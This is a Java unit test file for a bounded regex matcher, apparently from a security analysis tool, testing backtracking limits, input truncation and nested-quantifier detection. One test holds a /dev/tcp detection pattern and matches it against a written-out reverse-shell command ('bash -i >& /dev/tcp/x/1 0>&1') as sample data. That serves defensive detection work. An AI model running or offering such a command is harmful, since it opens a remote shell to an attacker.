package io.winnow.analyst.builtin;

import org.junit.jupiter.api.Test;

import java.util.regex.Pattern;

import static org.assertj.core.api.Assertions.assertThat;

class BoundedRegexTest {
    @Test
    void givesUpOnCatastrophicBacktrackingInsteadOfHanging() {
        // given: overlapping alternatives under a star, which backtrack exponentially on a near miss
        Pattern evil = Pattern.compile("^(a|aa|aaa)*b$");
        String hostile = "a".repeat(60) + "c";

        // when
        boolean found = BoundedRegex.find(evil, hostile);

        // then
        assertThat(found).isFalse();
    }

    @Test
    void stillFindsOrdinaryMatches() {
        assertThat(BoundedRegex.find(Pattern.compile("/dev/tcp/\\S+"), "bash -i >& /dev/tcp/x/1 0>&1")).isTrue();
        assertThat(BoundedRegex.find(Pattern.compile("nomatch"), "bash")).isFalse();
    }

    @Test
    void readsOnlyTheFirstPartOfHugeValues() {
        String huge = "x".repeat(BoundedRegex.MAX_INPUT) + "needle";

        assertThat(BoundedRegex.find(Pattern.compile("needle"), huge)).isFalse();
    }

    @Test
    void refusesNestedRepetitionsButAcceptsAtomicAndPossessiveOnes() {
        assertThat(RegexRules.hasNestedQuantifier("(a+)+")).isTrue();
        assertThat(RegexRules.hasNestedQuantifier("(\\w+\\s?)*x")).isTrue();
        assertThat(RegexRules.hasNestedQuantifier("(?>-\\S+\\s+)*-c")).isFalse();
        assertThat(RegexRules.hasNestedQuantifier("(-\\S++\\s++)*-c")).isFalse();
        assertThat(RegexRules.hasNestedQuantifier("(\\.\\d{1,3}){3}")).isFalse();
        assertThat(RegexRules.hasNestedQuantifier("(foo|bar)+")).isFalse();
    }
}
